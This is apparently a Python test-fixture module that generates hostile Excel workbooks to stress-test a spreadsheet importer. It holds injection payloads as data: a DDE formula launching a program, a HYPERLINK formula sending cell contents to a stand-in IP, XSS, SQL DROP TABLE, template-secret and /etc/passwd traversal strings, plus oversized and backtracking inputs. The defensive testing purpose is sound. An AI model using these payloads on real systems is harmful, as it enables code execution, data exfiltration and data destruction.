"""Cells that hold what nobody types: values beyond all bounds, programs, endless words."""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from functools import partial
from xml.sax.saxutils import escape

from tests.exchange.workbooks.hostile.sheets import HEADS, TABLE
from tests.exchange.workbooks.making import sheet_xml, text_row, workbook

WORST = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "<script>alert(1)</script>",
    "'; DROP TABLE parks_issue; --",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "../../../../etc/passwd",
    "\u202e\u200b\ufeff\u2028",
    "%s%n%(x)s{0}",
)
# Words that make a careless pattern look at each sign again for each other one.
MOST = 32_000
ENDLESS = {
    "years": "年" * MOST,
    "digits": "9" * MOST,
    "digits-with-a-unit": "9" * MOST + "吨",
    "commas-in-digits": "1," * (MOST // 2),
    "points": "1." * (MOST // 2),
    "days": "2026-12-31 " * 2_900,
    "commas": "、" * MOST,
    "offices": "、".join(f"第{number}局" for number in range(5_000)),
    "letters": "a" * MOST,
    "brackets": "（" * MOST,
    "letters-in-a-bracket": "(" + "a" * MOST,
    "brackets-of-letters": "(a" * (MOST // 2),
    "corners": "〔2026" * (MOST // 5),
    "steps": "1.2.3.4.5." * (MOST // 10),
    "blanks": "x" + " \u3000" * (MOST // 2) + "x",
    "lines": "一\n" * (MOST // 2),
    "words-of-heads": "问题" * (MOST // 2),
    "parks": "东江高新科技产业园" * 3_500,
    "quotes": '"' * MOST,
    "months": "1月" * (MOST // 2),
    "quarters": "第一季度" * (MOST // 4),
    "workdays": "15个工作日内" * (MOST // 7),
    "percentages": "99.5%" * (MOST // 5),
    "dashes": "-" * MOST,
    "marks": "①" * MOST,
}


def of_cells(*cells: str) -> bytes:
    """A ledger with a row of cells that are given as XML."""
    return workbook(sheet_xml(f'{TABLE}<row r="4">{"".join(cells)}</row>'))


def of_values(*values: str, attributes: str = "") -> bytes:
    """A ledger with a row of numbers, whatever they are."""
    return of_cells(*(f"<c{attributes}><v>{value}</v></c>" for value in values))


def of_rows(rows: Sequence[Sequence[str]], heads: Sequence[str] = HEADS) -> bytes:
    """A ledger of words."""
    lines = [heads, *rows]
    return workbook(
        sheet_xml(
            "".join(
                text_row(number, *(escape(words) for words in line))
                for number, line in enumerate(lines, start=1)
            )
        )
    )


ALL_HEADS = (
    *("序号", "问题标题", "所属园区", "问题类型", "严重程度", "问题来源", "发现日期", "整改时限"),
    *("责任单位", "配合单位", "责任人", "问题描述", "整改措施", "进展情况", "编号", "工业总产值"),
)
FIGURES = (
    "园区名称",
    "工业总产值（亿元）",
    "就业人数（人）",
    "万元产值能耗（吨标煤）",
    "污水处理率（%）",
)


def everywhere(words: str) -> bytes:
    """A ledger of which every cell below the head holds the same words."""
    return of_rows([[words] * len(ALL_HEADS)] * 3, ALL_HEADS)


def in_figures(words: str) -> bytes:
    """A table of figures whose figures are the same words."""
    park = "东江高新科技产业园"
    return of_rows([[park, *[words] * 4], [park, "1", "2", "3", "4"]], FIGURES)


def as_heads(words: str) -> bytes:
    """A table of which every head holds the same words."""
    return of_rows([["1", "甲", "乙", "丙", "丁"]] * 3, [words] * len(HEADS))


def random_table() -> bytes:
    """Words of nothing but chance."""
    chance = random.Random(5)
    signs = "年月日0123456789.,、()（）%万亿元以内底前第季度工作\u3000①一二三-—/"
    rows = [["".join(chance.choices(signs, k=30)) for _head in HEADS] for _row in range(300)]
    return of_rows(rows)


SMALL: dict[str, Callable[[], bytes]] = {
    "cell-of-10-mb.xlsx": lambda: of_cells(
        f'<c t="inlineStr"><is><t>{"x" * 10_000_000}</t></is></c>'
    ),
    "string-of-10-mb.xlsx": lambda: workbook(
        sheet_xml(TABLE), strings=f"<si><t>{'x' * 10_000_000}</t></si>"
    ),
    "formula-of-10-mb.xlsx": lambda: of_cells(f"<c><f>{'1+' * 5_000_000}1</f><v>1</v></c>"),
    "number-of-10-mb.xlsx": lambda: of_values("9" * 10_000_000),
    "number-of-a-thousand-digits.xlsx": lambda: of_values(*["9" * 1_000] * 5),
    "no-numbers.xlsx": lambda: of_values("NaN", "inf", "-Infinity", "1e999", "0x10", "1_000", ""),
    "numbers-beyond-all.xlsx": lambda: of_values("1e308", "-1e308", "1e-320", "9" * 300, "-0"),
    "exponents-as-words.xlsx": partial(everywhere, "1e999999999"),
    "days-beyond-all.xlsx": lambda: of_rows(
        [
            ["1", "甲", "乙", "丙", day]
            for day in (
                "0000-00-00",
                "9999-12-31",
                "10000-01-01",
                "2026-02-30",
                "99999999",
                "2026年13月45日",
                "2958466",
                "-1",
                "1e300",
                "2026-12-31T99:99:99",
                "第九十九季度",
                "99999999999个工作日内",
                "9" * 400 + "年",
            )
        ]
    ),
    "serials-beyond-all.xlsx": lambda: workbook(
        sheet_xml(
            TABLE
            + "".join(
                f'<row r="{number}"><c s="1"><v>1</v></c><c r="E{number}" s="1"><v>{value}</v></c>'
                "</row>"
                for number, value in enumerate(
                    ("1e300", "-1", "2958466", "60", "0", "0.999999999999", "NaN", "-1e300"),
                    start=4,
                )
            )
        ),
        styles='<cellXfs><xf/><xf numFmtId="14"/></cellXfs>',
    ),
    "serials-from-1904.xlsx": lambda: workbook(
        sheet_xml(f'{TABLE}<row r="4"><c r="E4" s="1"><v>2957004</v></c></row>'),
        styles='<cellXfs><xf/><xf numFmtId="14"/></cellXfs>',
        starts_1904=True,
    ),
    "errors.xlsx": lambda: of_values(*["#DIV/0!", "#N/A", "#NONE!", "x"], attributes=' t="e"'),
    "days-that-are-none.xlsx": lambda: of_values(
        "9999-99-99", "x", "2026-12-31T99:00:00", "", attributes=' t="d"'
    ),
    "yes-no-that-are-none.xlsx": lambda: of_values("7", "x", "", attributes=' t="b"'),
    "unknown-kinds.xlsx": lambda: of_values("x", "1", attributes=' t="zz"'),
    "strings-that-are-not-there.xlsx": lambda: of_values(
        "99", "-1", "x", "99999999999999999999", "", attributes=' t="s"'
    ),
    "formulas-that-start-programs.xlsx": lambda: of_cells(
        "<c t='str'><f>cmd|'/c calc'!A0</f><v>=cmd|'/c calc'!A0</v></c>"
    ),
    "formulas-without-a-value.xlsx": lambda: of_cells("<c><f>A1</f></c>", "<c><f>B4</f><v/></c>"),
    "formulas-in-circles.xlsx": lambda: of_cells("<c r='A4'><f>A4</f><v>0</v></c>"),
    **{
        f"words-{number}.xlsx": partial(everywhere, words)
        for number, words in enumerate(WORST, start=1)
    },
    **{
        f"heads-{number}.xlsx": partial(as_heads, words)
        for number, words in enumerate(WORST, start=1)
    },
    **{f"endless-{name}.xlsx": partial(everywhere, words) for name, words in ENDLESS.items()},
    **{
        f"endless-{name}-as-figures.xlsx": partial(in_figures, words)
        for name, words in ENDLESS.items()
    },
    **{
        f"endless-{name}-as-heads.xlsx": partial(as_heads, words) for name, words in ENDLESS.items()
    },
    "by-chance.xlsx": random_table,
    "only-heads.xlsx": lambda: of_rows([]),
    "only-totals.xlsx": lambda: of_rows([["合计", "", "", "", "3"]] * 5),
    "only-one-cell.xlsx": lambda: of_rows([], ["合计"]),
    "the-same-head-everywhere.xlsx": partial(as_heads, "问题标题"),
    "the-head-again-and-again.xlsx": lambda: of_rows([HEADS] * 2_000),
    "numbers-as-heads.xlsx": lambda: of_rows([["1"] * 5] * 3, ["1", "2", "3", "4", "5"]),
}
